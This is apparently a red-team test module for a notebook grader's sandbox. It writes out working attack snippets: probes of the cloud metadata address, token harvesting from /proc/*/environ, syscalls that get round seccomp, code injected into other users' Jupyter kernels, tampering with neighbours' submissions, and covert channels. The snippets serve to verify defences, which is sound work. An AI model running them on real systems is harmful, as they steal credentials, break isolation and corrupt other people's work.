"""Attacks that reach out: the network, tokens, system calls that undo walls, other jobs, other kernels.

Rule: who gets through says so in an error of a visible check (a leak), or a neighbour has the harm.
"""

from __future__ import annotations

from collections.abc import Callable

from tests.redteam.attack import Attack, Files, prelude
from tests.redteam.attacks.read import LOCKS
from tests.redteam.world import RIGHT, World

__all__ = ["ATTACKS"]

NETWORK = """
import urllib.request, socket
got = ""
for address in ("http://127.0.0.1:@PORT@/", "http://localhost:@PORT@/", "http://169.254.169.254/latest/meta-data/"):
    try:
        got += urllib.request.urlopen(address, timeout=1).read(2000).decode("utf-8", "replace")
    except Exception:
        pass
try:
    socket.create_connection(("1.1.1.1", 53), timeout=1)
    got += @BREACH@
except OSError:
    pass
"""

TOKEN = """
import glob, os
got = " ".join(os.environ.values())
for path in glob.glob("/proc/*/environ"):
    try:
        got += open(path, "rb").read().decode("utf-8", "replace")
    except OSError:
        pass
got = " ".join(word for word in got.replace("\\0", " ").split() if word.startswith("token-"))
"""

SYSCALL = """
import ctypes, os, platform, socket
arm = platform.machine() == "aarch64"
libc = ctypes.CDLL(None, use_errno=True)
got = ""
"""

VSOCK = (
    SYSCALL
    + """
try:
    socket.socket(40, socket.SOCK_STREAM).close()
    got = @BREACH@
except OSError:
    pass
"""
)

URING = (
    SYSCALL
    + """
if libc.syscall(425, 4, ctypes.create_string_buffer(256)) >= 0:
    got = @BREACH@
"""
)

USERNS = (
    SYSCALL
    + """
child = os.fork()
if child == 0:
    os._exit(0 if libc.syscall(97 if arm else 272, 0x10000000) == 0 else 1)
if os.waitpid(child, 0)[1] == 0:
    got = @BREACH@
"""
)

PTRACE = (
    SYSCALL
    + """
import time
child = os.fork()
if child == 0:
    time.sleep(5)
    os._exit(0)
if libc.syscall(117 if arm else 101, 16, child, 0, 0) == 0:
    got = @BREACH@
os.kill(child, 9)
"""
)

KEYRING = (
    SYSCALL
    + """
key = libc.syscall(217 if arm else 248, b"user", b"@MARKER@", b"x", 1, ctypes.c_int(-4))
if key > 0:
    got = @BREACH@
"""
)

TELL = "def shout(text):\n    raise ValueError(got[:500])"

EAVESDROP = """
import os, subprocess, sys
script = '''
import glob, os, sys, time
from jupyter_client import BlockingKernelClient
mine, until, met = set(sys.argv[2:]), time.monotonic() + 25, set()
while time.monotonic() < until:
    for path in glob.glob("/tmp/*.json") + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json")):
        if path in mine or path in met:
            continue
        try:
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            met.add(path)
            client.start_channels()
            for _ in range(30):
                client.execute("import math; math.isclose = lambda *args, **kwargs: False", silent=True)
                time.sleep(0.05)
        except Exception:
            pass
    time.sleep(0.05)
'''
import glob
known = glob.glob("/tmp/*.json") + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json"))
subprocess.Popen([sys.executable, "-c", script, "@MARKER@", *known], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

HARM = """
import glob
for path in glob.glob("../../../submitted/*/vault/vault.ipynb") + glob.glob("/in/**/*.ipynb", recursive=True) + glob.glob(
    "/tmp/**/submitted/**/*.ipynb", recursive=True):
    try:
        text = open(path).read()
        open(path, "w").write(text.replace("def ", "def un"))
    except OSError:
        pass
"""


ANSWER = "text.upper() + '!'"
PUT = f"""
import os, socket
for place in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    try:
        open(place + "/@MARKER@", "w").write({ANSWER!r})
    except OSError:
        pass
try:
    ear = socket.socket(socket.AF_UNIX)
    ear.bind("\\0@MARKER@")
    ear.listen()
except OSError:
    pass
"""
TAKE = """
import os, socket, time
until, found = time.monotonic() + 2.5, ""
while not found and time.monotonic() < until:
    for place in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        try:
            found = open(place + "/@MARKER@").read()
        except OSError:
            pass
    try:
        socket.socket(socket.AF_UNIX).connect("\\0@MARKER@")
        found = "text.upper() + '!'"
    except OSError:
        time.sleep(0.05)
def shout(text):
    return eval(found) if found else ""
"""
SEND = LOCKS + f"send({ANSWER!r})\ntime.sleep(2)\n"
HEAR = (
    LOCKS
    + """
listen(3)
def shout(text):
    return eval(heard[0]) if heard else ""
"""
)


def _partner(code: str) -> Callable[[World], Files]:
    """An honest hand-in, right everywhere, that passes its answer on."""
    return lambda world: world.filled(RIGHT | {"shout": world.words(f"{code}\n{RIGHT['shout']}")})


def _reach(name: str, about: str, code: str, defence: str) -> Attack:
    return Attack(name, "reaching out", about, defence, "leak", prelude(code, shout=TELL))


ATTACKS = (
    _reach("network", "loopback services of the machine, the metadata address, the world", NETWORK, "namespaces"),
    _reach("token-theft", "tokens in the environment of the grader and of every process", TOKEN, "environment"),
    _reach("vsock", "a socket to the machine's own host, which no network namespace covers", VSOCK, "seccomp"),
    _reach("io-uring", "io_uring, which goes round a filter of system calls", URING, "seccomp"),
    _reach("user-namespace", "a user namespace, in which one is root", USERNS, "seccomp"),
    _reach("ptrace", "ptrace of a process of the same user", PTRACE, "seccomp"),
    _reach("keyring", "the kernel's keyrings, which two jobs of one user share", KEYRING, "seccomp"),
    Attack("kernel-eavesdropping", "neighbours", "a program waits for the next one's kernel and runs code in it", "namespaces",
           "neighbour", prelude(EAVESDROP)),
    Attack("neighbour-spoiled", "neighbours", "a neighbour's hand-in is changed before it is graded", "namespaces", "neighbour",
           prelude(HARM)),
    Attack("covert-places", "neighbours", "two in league: one leaves its answer in /tmp, /dev/shm, the home and an abstract socket",
           "namespaces", "marks", prelude("", shout=TAKE), partner=_partner(PUT)),
    Attack("covert-locks", "neighbours", "two in league, graded at once: one locks shared files, the other reads the pattern",
           "locks refused", "marks", prelude("", shout=HEAR), partner=_partner(SEND)),
)  # fmt: skip
